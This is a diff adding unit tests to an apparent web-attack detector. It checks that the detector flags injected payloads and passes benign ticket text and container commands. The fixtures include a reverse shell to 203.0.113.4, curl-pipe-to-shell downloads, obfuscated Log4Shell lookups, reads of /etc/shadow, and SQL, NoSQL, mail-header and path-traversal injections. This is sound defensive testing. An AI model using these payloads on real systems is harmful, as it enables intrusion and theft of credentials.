@@ -328,3 +328,102 @@ test('a remark about one request says nothing of the next', async () => {
     'GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20- HTTP/1.1\nHost: a.example';
   expect(await isFlagged(`${quoted}\n\n${attack}`)).toBe(true);
 });
+
+describe('places where people write for people', () => {
+  const ticket = (body: string, path = '/api/tickets/9912/comments') => post(path, { body });
+
+  test('take commands that somebody is told to run', async () => {
+    const body =
+      'Please try this as administrator: `ipconfig /flushdns && netsh winsock reset`, then restart the laptop and tell us.';
+    expect(await isFlagged(ticket(body))).toBe(false);
+    const upgrade =
+      'Scanner says the old jar is on the class path, strings like ${jndi:ldap://...} must never be looked up there.';
+    expect(await isFlagged(ticket(upgrade, '/rest/api/3/issue'))).toBe(false);
+  });
+
+  test.each([
+    [
+      'a look-up with a host',
+      'Please read this note about the release ${jndi:ldap://203.0.113.6/a} today, thank you very much.',
+    ],
+    [
+      'a script of the server',
+      "Please read this note about the release <?php system('id'); ?> today, thank you very much.",
+    ],
+    [
+      'a download that runs',
+      'Please read this note about the release; curl http://203.0.113.6/x | sh; thank you very much.',
+    ],
+    [
+      'a command in front',
+      'x; cat /etc/passwd # please read this note about the release today, thank you very much',
+    ],
+    [
+      'a query left',
+      "Please read this note about the release'; DROP TABLE users;-- thank you very much for it",
+    ],
+  ])('hide no attack: %s', async (_, body) => {
+    expect(await isFlagged(ticket(body))).toBe(true);
+    expect(await isFlagged(ticket(body, '/wiki/pages'))).toBe(true);
+  });
+
+  test('lend their name to no other place', async () => {
+    const body = 'Please run this for me and tell my team about it today; cat /etc/shadow';
+    expect(await isFlagged(post('/cgi-bin/ping.cgi/comments', { target: body }))).toBe(true);
+    expect(await isFlagged(post('/api/ping', { host: body }))).toBe(true);
+  });
+});
+
+describe('those who run containers', () => {
+  const pod = (command: string[], path = '/apis/apps/v1/namespaces/shop/deployments') =>
+    post(path, {
+      kind: 'Deployment',
+      spec: { containers: [{ name: 'web', image: 'busybox:1.36', command }] },
+    });
+
+  test('say what starts in them', async () => {
+    expect(await isFlagged(pod(['sh', '-c', 'until nc -z db 5432; do sleep 1; done']))).toBe(false);
+    expect(await isFlagged(pod(['/bin/sh', '-c', 'node server.js']))).toBe(false);
+  });
+
+  test('start no shell for a stranger', async () => {
+    expect(await isFlagged(pod(['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.4/443 0>&1']))).toBe(true);
+    expect(await isFlagged(pod(['sh', '-c', 'curl -s http://203.0.113.4/x | sh']))).toBe(true);
+    expect(await isFlagged(pod(['sh', '-c', 'chroot /mnt; cat /etc/shadow']))).toBe(true);
+  });
+});
+
+test('a body behind a blank line is one without headers, too', () => {
+  expect(ids('POST /api/search HTTP/1.1\n\n{"filter":{"$where":"sleep(5000)||true"}}')).toContain(
+    'web-nosql-operator',
+  );
+  expect(
+    ids('POST /contact HTTP/1.1\n\nname=Ann&email=a@b.example%0d%0aBcc:x@y.example&message=hi'),
+  ).toContain('web-protocol-mail');
+  // A list of requests stays one.
+  expect(readEvents('GET /a HTTP/1.1\n\nGET /b HTTP/1.1\n\nMar 4 09:12:00 h cron: x').length).toBe(3);
+});
+
+test('names that a query declares are no operators', () => {
+  const query = 'query Orders($where:OrderFilter,$first:Int!){orders(where:$where,first:$first){id}}';
+  expect(ids(post('/graphql', { query }))).toEqual([]);
+  expect(ids(post('/graphql', { query: `${query} # {"$where":"sleep(1)"}` }))).toContain(
+    'web-nosql-operator',
+  );
+});
+
+test('values of a shell instead of missing ones are no look-ups', () => {
+  expect(ids(post('/api/notes', { text: 'rm -rf ${DIR:?}' }))).not.toContain('web-java-log4shell');
+  for (const hidden of [
+    '${${::-j}${::-n}di:ldap://x.example/a}',
+    '${${env:X:-j}ndi:rmi://x.example/a}',
+    '${${a:-j}${b:-n}}',
+  ])
+    expect(ids(post('/api/notes', { text: hidden }))).toContain('web-java-log4shell');
+});
+
+test('a link to a picture is no way out of a folder', () => {
+  expect(ids(post('/api/regex', { sample: '../images/logo.png' }))).toEqual([]);
+  expect(ids(post('/api/regex', { sample: '../../../images/logo.png' }))).toContain('web-lfi-traversal');
+  expect(ids(post('/api/regex', { sample: '../conf/app.ini' }))).toContain('web-lfi-traversal');
+});
